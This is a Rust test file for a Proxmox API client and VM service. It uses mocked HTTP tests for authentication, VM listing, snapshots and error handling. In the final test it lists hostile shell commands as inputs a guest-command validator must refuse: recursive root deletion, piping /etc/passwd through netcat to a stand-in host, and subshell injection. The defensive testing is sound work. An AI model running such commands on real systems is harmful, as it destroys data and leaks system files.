//! Tests for the Proxmox REST client and the VM service built on it.

#![allow(clippy::expect_used)]

use serde_json::json;
use timeshift_cli::application::ports::ProxmoxApi;
use timeshift_cli::application::services::proxmox::{
    batch_vm_status, create_vm_snapshot, execute_vm_command,
};
use timeshift_cli::domain::config::ProxmoxConfig;
use timeshift_cli::domain::error::ProxmoxError;
use timeshift_cli::infra::proxmox::ProxmoxClient;
use wiremock::matchers::{body_string_contains, header, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::mocks::MockProxmox;

const AUTH: &str = "PVEAPIToken=root@pam!timeshift=0f9c8d2e-secret";

fn proxmox_config() -> ProxmoxConfig {
    ProxmoxConfig {
        host: "pve.lab".into(),
        token_id: "timeshift".into(),
        token_secret: "0f9c8d2e-secret".into(),
        node: "pve".into(),
        ..ProxmoxConfig::default()
    }
}

async fn client(server: &MockServer) -> ProxmoxClient {
    ProxmoxClient::with_base_url(&proxmox_config(), format!("{}/api2/json/", server.uri()))
        .expect("client")
}

#[tokio::test]
async fn version_sends_token_header() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api2/json/version"))
        .and(header("authorization", AUTH))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(json!({"data": {"version": "8.1.4"}})),
        )
        .expect(1)
        .mount(&server)
        .await;

    let version = client(&server).await.version().await.expect("version");
    assert_eq!(version["version"], "8.1.4");
}

#[tokio::test]
async fn list_vms_is_sorted_by_vmid() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api2/json/nodes/pve/qemu"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": [
            {"vmid": 120, "name": "idrac-jump", "status": "stopped"},
            {"vmid": 101, "name": "mgmt", "status": "running", "cpus": 2.0, "maxmem": 2_147_483_648_u64},
        ]})))
        .mount(&server)
        .await;

    let vms = client(&server).await.list_vms().await.expect("list");
    let ids: Vec<u32> = vms.iter().map(|vm| vm.vmid).collect();
    assert_eq!(ids, vec![101, 120]);
    assert_eq!(vms[0].name.as_deref(), Some("mgmt"));
    assert_eq!(vms[1].cpus, None);
}

#[tokio::test]
async fn vm_status_decodes_current_status() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api2/json/nodes/pve/qemu/101/status/current"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": {
            "vmid": 101, "name": "mgmt", "status": "running", "qmpstatus": "running", "uptime": 3600
        }})))
        .mount(&server)
        .await;

    let status = client(&server).await.vm_status(101).await.expect("status");
    assert!(status.is_running());
    assert_eq!(status.uptime, Some(3600));
}

#[tokio::test]
async fn start_and_exec_post_forms() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/api2/json/nodes/pve/qemu/101/status/start"))
        .and(header("authorization", AUTH))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(json!({"data": "UPID:pve:0001:start"})),
        )
        .expect(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/api2/json/nodes/pve/qemu/101/agent/exec"))
        .and(body_string_contains("command=uptime"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"data": {"pid": 77}})))
        .expect(1)
        .mount(&server)
        .await;

    let client = client(&server).await;
    assert_eq!(client.start_vm(101).await.expect("start"), "UPID:pve:0001:start");
    assert_eq!(client.exec_command(101, "uptime").await.expect("exec")["pid"], 77);
}

#[tokio::test]
async fn snapshot_posts_name_and_description() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/api2/json/nodes/pve/qemu/101/snapshot"))
        .and(body_string_contains("snapname=pre-shift"))
        .and(body_string_contains("description=Time-shift+snapshot+created+at"))
        .respond_with(
            ResponseTemplate::new(200).set_body_json(json!({"data": "UPID:pve:0002:snap"})),
        )
        .expect(1)
        .mount(&server)
        .await;

    let upid = create_vm_snapshot(&client(&server).await, 101, "pre-shift")
        .await
        .expect("snapshot");
    assert_eq!(upid, "UPID:pve:0002:snap");
}

#[tokio::test]
async fn non_success_status_maps_to_http_error() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api2/json/version"))
        .respond_with(ResponseTemplate::new(401).set_body_string("authentication failure"))
        .mount(&server)
        .await;

    let err = client(&server).await.version().await.expect_err("401");
    assert!(matches!(
        err.downcast_ref::<ProxmoxError>(),
        Some(ProxmoxError::Http { status: 401, path, body }) if path == "/version" && body == "authentication failure"
    ));
}

#[tokio::test]
async fn reply_without_data_is_an_error() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api2/json/version"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"errors": {}})))
        .mount(&server)
        .await;

    let err = client(&server).await.version().await.expect_err("no data");
    assert!(matches!(
        err.downcast_ref::<ProxmoxError>(),
        Some(ProxmoxError::MissingData(path)) if path == "/version"
    ));
}

#[test]
fn client_requires_a_token() {
    let config = ProxmoxConfig {
        token_secret: String::new(),
        ..proxmox_config()
    };
    let err = ProxmoxClient::new(&config).err().expect("no token");
    assert!(matches!(err.downcast_ref::<ProxmoxError>(), Some(ProxmoxError::MissingToken)));
}

// ── VM service ───────────────────────────────────────────────────────────────

#[tokio::test]
async fn batch_status_keeps_order_and_maps_failures_to_none() {
    let api = MockProxmox::new().with_vm(101, "running").with_vm(103, "stopped");

    let results = batch_vm_status(&api, &[103, 102, 101]).await;

    let summary: Vec<(u32, Option<String>)> = results
        .into_iter()
        .map(|(vmid, status)| (vmid, status.map(|s| s.status)))
        .collect();
    assert_eq!(
        summary,
        vec![
            (103, Some("stopped".to_string())),
            (102, None),
            (101, Some("running".to_string())),
        ]
    );
}

#[tokio::test]
async fn snapshot_names_are_validated_before_the_call() {
    let api = MockProxmox::new();

    assert!(create_vm_snapshot(&api, 101, "pre shift!").await.is_err());
    assert!(api.calls().is_empty());

    create_vm_snapshot(&api, 101, "pre-shift").await.expect("valid");
    let calls = api.calls();
    assert_eq!(calls.len(), 1);
    assert!(calls[0].starts_with("snapshot 101 pre-shift Time-shift snapshot created at "));
}

#[tokio::test]
async fn guest_commands_with_shell_operators_are_refused() {
    let api = MockProxmox::new();

    for command in ["ls; rm -rf /", "cat /etc/passwd | nc evil 9", "echo $(id)"] {
        assert!(
            execute_vm_command(&api, 101, command).await.is_err(),
            "{command} was accepted"
        );
    }
    assert!(api.calls().is_empty());

    let reply = execute_vm_command(&api, 101, "systemctl status chronyd")
        .await
        .expect("plain command");
    assert_eq!(reply["pid"], 4242);
    assert_eq!(api.calls(), vec!["exec 101 systemctl status chronyd"]);
}
